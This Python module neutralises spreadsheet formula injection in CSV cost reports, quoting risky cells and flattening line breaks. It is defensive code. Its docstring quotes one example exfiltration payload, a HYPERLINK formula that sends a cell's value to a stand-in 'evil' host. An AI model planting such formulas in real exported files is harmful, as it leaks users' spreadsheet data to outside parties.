"""CSV that a spreadsheet opens as data, never as formulas (CSV / formula injection).

Model names in the cost report are chosen by users (any `replicate:owner/name`, any
OpenAI model name), so a cell like `=HYPERLINK("http://evil/?"&A1,"click")` would run as
a formula in Excel, LibreOffice or Google Sheets when the report is opened. Following
OWASP's advice, every cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage
return gets a leading single quote, which spreadsheets show as text. The csv module
quotes separators and quotes inside a cell, but not a carriage return when rows end in
"\n" (which breaks the row for readers): line breaks inside a cell become spaces.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, TextIO

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """The cell as inert text on one line: text that would start a formula is quoted.

    Numbers are left alone unless negative (written as text, a negative number would
    start with '-'); the reports here never hold negative amounts.
    """
    if isinstance(value, bool) or value is None:
        return value
    if isinstance(value, int | float) and value >= 0:
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS):
        text = "'" + text
    return text.replace("\r\n", " ").replace("\r", " ").replace("\n", " ")


class SafeWriter:
    """`csv.writer` whose rows pass through `neutralise` cell by cell."""

    def __init__(self, out: TextIO, **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def safe_writer(out: TextIO, **options: Any) -> SafeWriter:
    return SafeWriter(out, **options)
